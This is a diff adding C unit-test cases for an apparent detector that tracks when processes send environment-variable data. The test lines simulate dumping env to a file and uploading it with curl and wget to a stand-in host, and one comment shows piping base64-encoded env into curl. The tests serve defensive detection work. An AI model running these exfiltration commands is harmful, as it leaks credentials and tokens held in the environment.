@@ -894,6 +894,37 @@ static void test_environment_sent(void **state)
 	assert_true(rejudged(w, py));
 	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);
 
+	/* env > e.txt, then the file handed over by name or on stdin */
+	env = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 0, "/tmp/ci/e.txt");
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@/tmp/ci/e.txt", "http://x/c"), 0, 0,
+		NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	curl->cwd = refstr_new("/tmp/ci");
+	exec_as(w, curl, "/usr/bin/wget", ARGV("wget", "--post-file=e.txt", "http://x/c"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	exec_io(w, curl, "/usr/bin/curl", ARGV("curl", "--data-binary", "@-", "http://x/c"), 0, 0,
+		"/tmp/ci/e.txt", NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	/* another file, a name that only ends like it, a name from another directory */
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@/tmp/ci/build.log", "http://x/c"), 0,
+		0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@note.txt", "http://x/c"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	refstr_put(curl->cwd);
+	curl->cwd = refstr_new("/src");
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@e.txt", "http://x/c"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	/* a script given the path sends it once it connects */
+	py = fork_of(w, shell);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "post.py", "/tmp/ci/e.txt"), 0, 0, NULL);
+	assert_int_equal(info_of(w, py).sends_prov, 0);
+	connect_of(w, py, 443, 0);
+	assert_true(rejudged(w, py));
+	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);
+
 	/* curl -d "$(env | base64)" URL: captured right before curl starts */
 	filter = fork_of(w, shell);
 	exec_as(w, filter, "/usr/bin/env", ARGV("env", "-0"), 0, 54, NULL);
